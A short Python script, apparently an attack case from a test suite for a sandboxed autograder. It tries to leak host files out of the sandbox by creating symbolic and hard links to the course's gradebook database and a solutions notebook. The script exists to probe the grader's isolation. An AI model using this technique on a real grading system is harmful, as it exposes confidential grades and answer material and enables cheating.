"""Makes links inside the sandbox to files of the host, hoping that somebody collects them."""

# /// attack
# ran = ["after total"]
# ///
# %% after total
import os

for number, target in enumerate(("gradebook.db", "solutions/hostile/hostile.ipynb")):
    os.symlink(os.path.join(ATTACK["course"], target), f"link-{number}")
    try:
        os.link(os.path.join(ATTACK["course"], target), f"hard-{number}")
    except OSError as error:
        print(error)
print(os.listdir("."))
ran("after total")
